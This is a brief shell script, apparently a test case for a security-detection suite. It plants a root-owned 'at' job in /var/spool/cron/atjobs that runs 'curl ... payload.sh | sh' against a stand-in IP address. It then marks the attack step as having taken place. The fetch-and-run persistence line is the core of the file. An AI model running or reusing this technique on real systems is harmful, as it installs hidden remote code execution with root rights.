#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/spool/cron/atjobs
printf '#!/bin/sh\n# atrun uid=0 gid=0\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/var/spool/cron/atjobs/a0000101c5e8d0
chmod 700 /var/spool/cron/atjobs/a0000101c5e8d0
took_place
